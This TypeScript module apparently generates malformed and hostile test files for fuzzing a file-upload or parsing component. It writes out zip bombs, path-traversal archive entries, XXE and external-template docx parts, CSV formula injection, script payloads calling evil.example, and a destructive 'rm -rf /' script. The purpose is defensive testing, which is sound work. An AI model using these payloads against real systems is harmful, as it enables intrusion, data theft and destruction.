import { Buffer } from 'node:buffer'
import { crc32, deflateRawSync } from 'node:zlib'

/** A file that somebody might send to do harm, under a name that may or may not say what it is. */
export type Malformed = { readonly what: string; readonly name: string; readonly bytes: Uint8Array<ArrayBuffer> }

const script = '<script>fetch("//evil.example")</script>'
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const html = `<!doctype html><html><body>${script}</body></html>`
const pdf = '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\nxref\n0 3\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n'
const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082', 'hex')
const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300ffd9', 'hex')
const gif = Buffer.from('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//', 'latin1')
const webp = Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00', 'latin1')
const tiff = Buffer.from('49492a0008000000ffff', 'hex')

/** A zip of these entries: stored or deflated, with what a writer of zips would never write where `spoil` says so. */
function zip(entries: readonly (readonly [name: string, text: string])[], spoil: { size?: number; count?: number; method?: number; offset?: number } = {}): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const [name, text] of entries) {
    const [path, plain] = [Buffer.from(name), Buffer.from(text)]
    const packed = deflateRawSync(plain)
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(spoil.method ?? 8, 4)
    fields.writeUInt32LE(crc32(plain), 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(spoil.size ?? plain.length, 18)
    fields.writeUInt16LE(path.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, path, packed])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(spoil.offset ?? at, 10)
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, tail, path]))
    locals.push(local)
    at += local.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(spoil.count ?? entries.length, 4)
  end.writeUInt16LE(spoil.count ?? entries.length, 6)
  end.writeUInt32LE(directory.length, 8)
  end.writeUInt32LE(spoil.offset ?? at, 12)
  return Buffer.concat([...locals, directory, Buffer.from('PK\x05\x06'), end])
}

const types = (kind: string): readonly [string, string] => ['[Content_Types].xml', `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${kind}" ContentType="application/vnd.openxmlformats-officedocument.${kind.startsWith('word') ? 'wordprocessingml.document' : 'spreadsheetml.sheet'}.main+xml"/></Types>`]
const docx = (...more: (readonly [string, string])[]): Buffer => zip([types('word/document.xml'), ['word/document.xml', '<w/>'], ...more])
const xlsx = (...more: (readonly [string, string])[]): Buffer => zip([types('xl/workbook.xml'), ['xl/workbook.xml', '<w/>'], ...more])

/** What each file begins as, before it is spoiled. */
const originals: Readonly<Record<string, Buffer>> = {
  pdf: Buffer.from(pdf),
  'pdf with a page before it': Buffer.from(`${html}\n${pdf}`),
  'pdf with a page after it': Buffer.from(`${pdf}${html}`),
  'pdf that is a zip too': Buffer.concat([Buffer.from(pdf), zip([['a.txt', 'a']])]),
  'pdf within a kilobyte of nothing': Buffer.from(`${' '.repeat(1000)}${pdf}`),
  'pdf of braces': Buffer.from(`%PDF-1.4\n${'<<'.repeat(3000)}`),
  svg: Buffer.from(svg),
  'svg in UTF-16': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]),
  'svg with entities': Buffer.from(`<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100)}"><!ENTITY b "&a;&a;&a;">]>${svg}`),
  'svg after a comment': Buffer.from(`<!-- ${'x'.repeat(2000)} -->${svg}`),
  html: Buffer.from(html),
  'html after a mark': Buffer.from(`﻿${html}`),
  'html after blank lines': Buffer.from(`${'\n\t '.repeat(300)}${html}`),
  'html in UTF-7': Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  'html in UTF-16': Buffer.from(html, 'utf16le'),
  'html after words': Buffer.from(`dear reader ${html}`),
  png, jpeg, gif, webp, tiff,
  'png with a page after it': Buffer.concat([png, Buffer.from(html)]),
  'jpeg with a page in it': Buffer.concat([jpeg.subarray(0, -2), Buffer.from(html), Buffer.from([0xff, 0xd9])]),
  'gif that is a script': gif,
  zip: zip([['a.txt', 'a']]),
  'zip that climbs': zip([['../../../etc/passwd', 'root'], ['/abs', 'x'], ['..\\..\\x', 'x']]),
  'zip that lies about sizes': zip([['a', 'a']], { size: 0xffffffff }),
  'zip that lies about entries': zip([['a', 'a']], { count: 0xffff }),
  'zip of an unknown method': zip([['a', 'a']], { method: 99 }),
  'zip that points outside': zip([['a', 'a']], { offset: 0xfffffff0 }),
  'zip bomb': zip([['zeros', '\0'.repeat(2_000_000)]]),
  'zip in a zip': zip([['inner.zip', zip([['a', 'a']]).toString('latin1')]]),
  docx: docx(), xlsx: xlsx(),
  'docx with macros': docx(['word/vbaProject.bin', 'x']),
  'docx that climbs': docx(['../../evil', 'x']),
  'docx of an outside template': docx(['word/_rels/settings.xml.rels', '<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>']),
  'docx with entities': docx(['word/x.xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>']),
  'jar that is a docx too': docx(['META-INF/MANIFEST.MF', 'Main-Class: Evil'], ['Evil.class', 'x']),
  'csv that computes': Buffer.from('=cmd|\'/c calc\'!A1,+1,-1,@SUM(1)\n"unclosed'),
  'text with nothing in it': Buffer.alloc(3),
  'text of control characters': Buffer.from(Array.from({ length: 64 }, (_, index) => index)),
  'text that is not UTF-8': Buffer.from([0x61, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xff]),
  'text of one line without end': Buffer.from('a'.repeat(70_000)),
  'a program': Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)]),
  'a program for Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]),
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'a rich text': Buffer.from('{\\rtf1{\\object\\objdata 0105}}'),
  'a postscript': Buffer.from('%!PS\n(x) run\n'),
  'a stylesheet': Buffer.from('@import "//evil.example";'),
  'a script': Buffer.from('alert(document.domain)'),
}

const endings = ['pdf', 'txt', 'csv', 'png', 'jpg', 'docx', 'xlsx', 'webp', 'tiff', 'heic']

/** So many files, each of the originals whole first, then spoiled: cut off, with bits turned, doubled, or begun by something else. Depends on `random` alone. */
export function malformedFiles(count: number, random: () => number): Malformed[] {
  const kinds = Object.entries(originals)
  return Array.from({ length: count }, (_, index) => {
    const [what, whole] = kinds[index % kinds.length] ?? ['nothing', Buffer.alloc(1)]
    const bytes = index < kinds.length ? Buffer.from(whole) : spoiled(whole, random)
    // Half of them under the name that fits best, the others under any.
    const fits = endings.find((ending) => what.startsWith(ending)) ?? (what.startsWith('jpeg') ? 'jpg' : 'txt')
    const ending = random() < 0.5 ? fits : (endings[Math.floor(random() * endings.length)] ?? fits)
    return { what: index < kinds.length ? what : `${what}, spoiled`, name: `file ${index}.${ending}`, bytes: new Uint8Array(bytes) }
  })
}

function spoiled(whole: Buffer, random: () => number): Buffer {
  const at = Math.floor(random() * whole.length)
  const way = random()
  if (way < 0.3) return Buffer.from(whole.subarray(0, Math.max(1, at)))
  if (way < 0.6) {
    const turned = Buffer.from(whole)
    for (let turns = 0; turns < 8; turns += 1) {
      const byte = Math.floor(random() * turned.length)
      turned[byte] = (turned[byte] ?? 0) ^ (1 << Math.floor(random() * 8))
    }
    return turned
  }
  if (way < 0.75) return Buffer.concat([whole, whole])
  if (way < 0.9) return Buffer.concat([whole.subarray(0, at), Buffer.from(Array.from({ length: 40 }, () => Math.floor(random() * 256))), whole.subarray(at)])
  return Buffer.concat([[png, jpeg, Buffer.from(pdf), Buffer.from(html)][Math.floor(random() * 4)] ?? png, whole])
}
